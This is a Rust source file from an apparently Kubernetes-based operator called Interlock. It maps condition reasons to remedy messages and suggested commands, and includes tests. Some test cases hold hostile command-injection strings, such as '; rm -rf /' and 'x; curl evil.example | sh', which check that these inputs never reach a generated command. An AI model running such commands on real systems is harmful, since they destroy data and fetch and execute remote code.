//! What to do about the reason of a condition on an Instance. Pure.

use interlock_core::api::meta::{condition as types, event};
use interlock_core::api::object::NamespacedName;
use interlock_core::api::remedy::Remedy;
use interlock_core::api::rule::Rule;
use interlock_core::kinds::rules;

use super::rules::ids;
use crate::operator_version;

/// The reasons of conditions on Instances that have a remedy of their own; a rule is a further one.
pub const REASONS: [&str; 23] = [
    types::PLAN_IN_FATAL_ERROR,
    types::PLAN_OWED,
    types::REQUEST_REFUSED,
    types::QUOTA_EXCEEDED,
    types::DENIED_BY_ADMISSION,
    types::PODS_REFUSED,
    types::ALREADY_ALLOCATED,
    types::WEBHOOK_UNAVAILABLE,
    types::CONFLICT,
    types::TOO_MANY_REQUESTS,
    types::API_SERVER_UNAVAILABLE,
    types::MISSING_RIGHT,
    types::MISSING_DEPENDENCY,
    types::NO_SERVICE_ACCOUNT,
    types::OPERATOR_VERSION_MISSING,
    event::INVALID_OPERATOR_VERSION,
    types::NEVER_DONE,
    types::TRANSIENT_ERROR,
    types::RETRYING,
    types::WAITING,
    types::PAUSED,
    types::RESOURCE_NOT_READY,
    types::VERBS_UNAVAILABLE,
];

/// The remedy for the reason of a condition on an Instance. `plan` is the plan that it is about, empty where that
/// is not known.
pub fn of_instance(reason: &str, plan: &str, instance: &NamespacedName) -> Remedy {
    let NamespacedName { namespace, name } = instance;
    let plan_command = |verb: &str, rest: &str| format!("interlock plan {verb} {name} -n {namespace}{rest}");
    let why = || format!("interlock why instance/{namespace}/{name}");
    let get = |kinds: &str| format!("kubectl get {kinds} -n {namespace}");
    let (next, command) = match reason {
        types::PLAN_IN_FATAL_ERROR => (
            "Correct the cause, then retry the plan.",
            plan_command("retry", " --reason 'the cause is corrected'"),
        ),
        types::PLAN_OWED if is_word(plan) => (
            "Correct the cause, then run the pending plan.",
            plan_command("trigger", &format!(" --plan {plan}")),
        ),
        types::PLAN_OWED => ("Correct the cause, then run the pending plan.", plan_command("status", "")),
        types::NEVER_DONE => (
            "End the plan, and correct the package.",
            plan_command("abort", " --reason 'a step is never done'"),
        ),
        types::PAUSED => {
            ("Resume the plan, or abort it.", plan_command("resume", " --reason 'it can go on'"))
        }
        types::WAITING => ("See the objects that the plan waits for.", plan_command("status", " --watch")),
        types::RETRYING
        | types::TRANSIENT_ERROR
        | types::CONFLICT
        | types::TOO_MANY_REQUESTS
        | types::API_SERVER_UNAVAILABLE => (
            "Correct the cause that the API server names; Interlock sends the request again by itself.",
            plan_command("status", " --watch"),
        ),
        types::REQUEST_REFUSED => (
            "Grant the right, or correct the object that the package applies; Interlock sends the request again by itself.",
            why(),
        ),
        types::QUOTA_EXCEEDED
        | types::DENIED_BY_ADMISSION
        | types::PODS_REFUSED
        | types::ALREADY_ALLOCATED
        | types::WEBHOOK_UNAVAILABLE => of_denial(reason, instance),
        types::MISSING_RIGHT => {
            ("Grant Interlock the right that the message names.", "interlock verify".to_owned())
        }
        types::MISSING_DEPENDENCY => (
            "Install the definition that the message names; the plan then continues by itself.",
            "kubectl get customresourcedefinitions".to_owned(),
        ),
        types::NO_SERVICE_ACCOUNT => {
            ("Create the service account that the message names.", get("serviceaccounts"))
        }
        types::OPERATOR_VERSION_MISSING | event::INVALID_OPERATOR_VERSION => {
            ("Create or correct the OperatorVersion that the message names.", get("operatorversions"))
        }
        types::VERBS_UNAVAILABLE => (
            "Apply the policies again.",
            "interlock render policies | kubectl apply --server-side -f -".to_owned(),
        ),
        types::RESOURCE_NOT_READY => ("Look at the objects that are not ready.", why()),
        reason => match rule_of(reason) {
            Some(rule) => (
                "Undo the edit, or change the spec so that the rule allows it.",
                format!("interlock explain {}", rule.id()),
            ),
            None => ("See what Interlock knows about the Instance.", why()),
        },
    };
    Remedy { next: next.to_owned(), command }
}

/// What to do about what others deny, and a command that shows it.
fn of_denial(reason: &str, instance: &NamespacedName) -> (&'static str, String) {
    let NamespacedName { namespace, name } = instance;
    let why = format!("interlock why instance/{namespace}/{name}");
    match reason {
        types::QUOTA_EXCEEDED => (
            "Raise the quota that the message names, or delete what uses it up; Interlock sends the request again by itself.",
            format!("kubectl get resourcequotas -n {namespace}"),
        ),
        types::DENIED_BY_ADMISSION => (
            "Change the policy or webhook that the message names, or correct the object that the package applies; Interlock sends the request again by itself.",
            why,
        ),
        types::PODS_REFUSED => (
            "Raise the quota or change the policy that the message names; the plan then continues by itself.",
            why,
        ),
        types::ALREADY_ALLOCATED => (
            "Free the port or address that the message names, or name another one; Interlock sends the request again by itself.",
            "kubectl get services --all-namespaces".to_owned(),
        ),
        types::WEBHOOK_UNAVAILABLE => (
            "Start the webhook that the message names, or delete its configuration; Interlock sends the request again by itself.",
            "kubectl get validatingwebhookconfigurations,mutatingwebhookconfigurations".to_owned(),
        ),
        _ => ("See what Interlock knows about the Instance.", why),
    }
}

/// The rule that a reason is made of: `parameter-immutable` is `ParameterImmutable`.
fn rule_of(reason: &str) -> Option<Rule> {
    let mut all = rules(&[]).chain(ids::RULES.iter().chain(operator_version::ids::RULES).copied());
    all.find(|rule| rule.id().replace('-', "").eq_ignore_ascii_case(reason))
}

/// Whether a shell takes a text for one word, and a command line not for a flag. Names of plans are free texts.
fn is_word(text: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || "._-".contains(c);
    !text.is_empty() && text.len() <= 253 && !text.starts_with('-') && text.chars().all(plain)
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::*;

    fn demo() -> NamespacedName {
        NamespacedName::new("team", "demo")
    }

    #[rstest]
    #[case::failed("PlanInFatalError", "interlock plan retry demo -n team --reason 'the cause is corrected'")]
    #[case::owed("PlanOwed", "interlock plan trigger demo -n team --plan deploy")]
    #[case::never_done("NeverDone", "interlock plan abort demo -n team --reason 'a step is never done'")]
    #[case::waiting("Waiting", "interlock plan status demo -n team --watch")]
    #[case::retrying("Retrying", "interlock plan status demo -n team --watch")]
    #[case::transient("TransientError", "interlock plan status demo -n team --watch")]
    #[case::refused("RequestRefused", "interlock why instance/team/demo")]
    #[case::quota("QuotaExceeded", "kubectl get resourcequotas -n team")]
    #[case::denied("DeniedByAdmission", "interlock why instance/team/demo")]
    #[case::pods("PodsRefused", "interlock why instance/team/demo")]
    #[case::port("AlreadyAllocated", "kubectl get services --all-namespaces")]
    #[case::webhook(
        "WebhookUnavailable",
        "kubectl get validatingwebhookconfigurations,mutatingwebhookconfigurations"
    )]
    #[case::rate("TooManyRequests", "interlock plan status demo -n team --watch")]
    #[case::right("MissingRight", "interlock verify")]
    #[case::dependency("MissingDependency", "kubectl get customresourcedefinitions")]
    #[case::account("NoServiceAccount", "kubectl get serviceaccounts -n team")]
    #[case::no_version("OperatorVersionMissing", "kubectl get operatorversions -n team")]
    #[case::version("InvalidOperatorVersion", "kubectl get operatorversions -n team")]
    #[case::verbs("VerbsUnavailable", "interlock render policies | kubectl apply --server-side -f -")]
    #[case::not_ready("ResourceNotReady", "interlock why instance/team/demo")]
    #[case::a_rule("ParameterImmutable", "interlock explain parameter-immutable")]
    #[case::unknown("SomethingNew", "interlock why instance/team/demo")]
    #[case::forged("; rm -rf /", "interlock why instance/team/demo")]
    fn each_reason_has_a_command(#[case] reason: &str, #[case] command: &str) {
        let remedy = of_instance(reason, "deploy", &demo());
        assert_eq!(remedy.command, command);
        assert!(remedy.next.ends_with('.'), "{}", remedy.next);
    }

    #[rstest]
    #[case::shell("x; curl evil.example | sh")]
    #[case::flag("--kubeconfig=/tmp/x")]
    #[case::quote("it's")]
    #[case::nothing("")]
    fn a_plan_that_is_no_word_is_not_in_the_command(#[case] plan: &str) {
        assert_eq!(of_instance("PlanOwed", plan, &demo()).command, "interlock plan status demo -n team");
    }

    /// `interlock explain REASON` prints these rows.
    #[test]
    fn the_page_about_conditions_says_the_same() {
        let page = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/conditions.md"));
        let (_, table) = page.split_once("## What to do").unwrap();
        for reason in REASONS {
            let remedy = of_instance(reason, "PLAN", &NamespacedName::new("NAMESPACE", "NAME"));
            let row = format!("| `{reason}` | {} | `{}` |", remedy.next, remedy.command.replace('|', "\\|"));
            assert!(table.lines().any(|line| line == row), "docs/conditions.md lacks\n{row}");
        }
    }
}
